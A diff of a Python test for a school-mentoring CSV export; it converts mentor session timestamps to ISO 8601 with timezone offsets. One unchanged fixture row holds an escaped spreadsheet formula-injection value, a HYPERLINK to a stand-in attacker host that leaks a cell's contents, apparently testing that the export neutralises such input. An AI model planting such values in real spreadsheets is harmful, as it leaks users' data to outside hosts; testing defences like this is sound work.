@@ -88,10 +88,10 @@ def test_the_tutors_file_lists_each_mentor_with_the_terms_sessions_in_dfes_words
         ["100001", "Riverside Primary", "2000009", "", '\'=HYPERLINK("https://evil.example/?"&A1,"Click")', "2025",
          "active", "trained", "autumn-2025", "", "", "", "", "", ""],
         ["100001", "Riverside Primary", "2000001", "6a1b7c2d-0000-4000-8000-000000000001", "Max Mentor", "2025",
-         "active", "new", "autumn-2025", "Mentoring conversations", "2025-10-08 13:00", "2025-10-08 16:30", "3.5",
+         "active", "new", "autumn-2025", "Mentoring conversations", "2025-10-08T13:00:00+01:00", "2025-10-08T16:30:00+01:00", "3.5",
          "present", "yes"],
         ["100001", "Riverside Primary", "2000001", "6a1b7c2d-0000-4000-8000-000000000001", "Max Mentor", "2025",
-         "active", "new", "autumn-2025", "Giving feedback", "2025-11-12 16:00", "2025-11-12 17:00", "1.0",
+         "active", "new", "autumn-2025", "Giving feedback", "2025-11-12T16:00:00+00:00", "2025-11-12T17:00:00+00:00", "1.0",
          "left_early", "yes"],
     ]  # fmt: skip
 
